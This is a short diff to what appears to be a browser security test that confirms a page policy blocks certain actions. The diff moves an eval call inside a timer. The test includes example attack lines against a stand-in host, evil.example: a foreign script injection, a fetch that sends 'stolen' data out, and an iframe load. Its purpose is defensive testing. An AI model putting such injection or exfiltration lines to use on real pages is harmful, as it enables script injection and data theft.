@@ -63,10 +63,13 @@ test("what gets past everything else is stopped by it", async ({ device }) => {
     document.body.append(image);
   });
   await stopped("a foreign script", () => document.body.append(Object.assign(document.createElement("script"), { src: "https://evil.example/x.js" })));
+  // Later: what the test itself evaluates may do so.
   await stopped("words run as code", () => {
-    try {
-      window.eval("window.hurt = 1");
-    } catch {}
+    setTimeout(() => {
+      try {
+        window.eval("window.hurt = 1");
+      } catch {}
+    });
   });
   await stopped("a message home", () => fetch("https://evil.example/?stolen").catch(() => {}));
   await stopped("a frame", () => document.body.append(Object.assign(document.createElement("iframe"), { src: "https://evil.example/" })));
